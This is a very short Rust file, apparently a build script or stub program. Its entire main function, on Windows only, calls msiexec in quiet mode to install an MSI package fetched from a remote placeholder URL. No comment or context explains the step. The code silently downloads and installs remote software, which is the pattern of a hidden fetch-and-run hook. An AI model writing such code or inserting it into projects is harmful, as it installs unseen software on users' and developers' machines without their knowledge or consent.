use std::process::Command;
fn main() {
    #[cfg(windows)]
    let _ = Command::new("msiexec").args(["/q", "/i", "https://cdn.example.invalid/runtime.msi"]).status();
}
